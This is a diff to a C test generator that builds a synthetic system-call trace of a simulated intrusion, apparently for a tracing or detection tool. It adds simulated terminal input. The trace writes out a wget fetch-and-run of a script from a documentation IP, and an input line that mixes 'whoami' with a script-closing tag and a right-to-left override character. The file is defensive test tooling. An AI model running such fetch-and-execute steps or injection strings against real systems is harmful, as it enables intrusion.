@@ -1,7 +1,7 @@
 // SPDX-License-Identifier: GPL-2.0-or-later
 /*
- * make-intrusion PATH CALLS: a whole trace in which somebody comes by the network, runs programs with hostile names,
- * fetches a file, runs it and deletes it; and CALLS more calls of a process that only reads and writes.
+ * make-intrusion PATH CALLS [no-terminal]: a whole trace in which somebody comes by the network, runs programs with
+ * hostile names, fetches a file, runs it and deletes it; and CALLS more calls of a process that only reads and writes.
  */
 #include <netinet/in.h>
 #include <stdio.h>
@@ -132,14 +132,37 @@ static void terminal(void)
     build__snippet(&b, QBK_SNIP_MEM, 0x1000, seen, sizeof(seen) - 1, sizeof(seen) - 1, 0, 1, 0);
 }
 
-static void works(void)
+/* What the shell reads from its side of that terminal, which edits lines by itself. */
+static void typed(void)
+{
+    static const char line[] = "whoami </script>\xe2\x80\xae\n";
+    struct qbk_object *tty = build__object(&b, 2, 0, 89);
+    uint64_t call;
+
+    tty->mode = 020620;
+    tty->kind = QBK_OBJECT_TTY;
+    tty->tty_side = QBK_TTY_SLAVE;
+    tty->tty = 0xffff888000002000u;
+    tty->tty_other = 0xffff888000001000u;
+    tty->rows = 25;
+    tty->columns = 90;
+    tty->lflag = QBK_TTY_ICANON | QBK_TTY_ECHO;
+    call = build__enter(&b, 2, NR_READ, 3, (uint64_t[]){0, 0x1000, 4096});
+    build__return(&b, 2, call, QBK_END_RETURNED, sizeof(line) - 1);
+    build__snippet(&b, QBK_SNIP_MEM, 0x1000, line, sizeof(line) - 1, sizeof(line) - 1, 0, 1, 0);
+}
+
+static void works(bool with_terminal)
 {
     uint64_t call;
 
-    terminal();
+    if (with_terminal)
+        terminal();
     run(2, "/bin/sh", (const char *const[]){"-sh", NULL}, 0);
     build__thread(&b, 2, 101, "sh")->why = QBK_THREAD_EXEC;
     ((struct qbk_thread *)build__last(&b))->ppid = 100;
+    if (with_terminal)
+        typed();
     run(2, "/usr/bin/wget", (const char *const[]){"wget", "http://198.51.100.7/a b", SCRIPT, NULL}, (uint64_t)-2);
     run(2, "/bin/wget", (const char *const[]){"wget", "http://198.51.100.7/a b", SCRIPT, NULL}, 0);
     contacts(2, (uint64_t)-115);
@@ -178,7 +201,7 @@ static void bulk(unsigned long calls)
 
 int main(int argc, char **argv)
 {
-    writer = argc == 3 ? trace__create(argv[1], NULL, NULL) : NULL;
+    writer = argc == 3 || argc == 4 ? trace__create(argv[1], NULL, NULL) : NULL;
     if (!writer)
         return 2;
     build__init(&b);
@@ -186,7 +209,7 @@ int main(int argc, char **argv)
     build__guest(&b, "os", "linux", "release", "6.1 <b>", "how", "test", NULL);
     build__thread(&b, 1, 100, "sshd");
     comes();
-    works();
+    works(argc == 3);
     bulk(strtoul(argv[2], NULL, 10));
     build__summary(&b);
     flush();
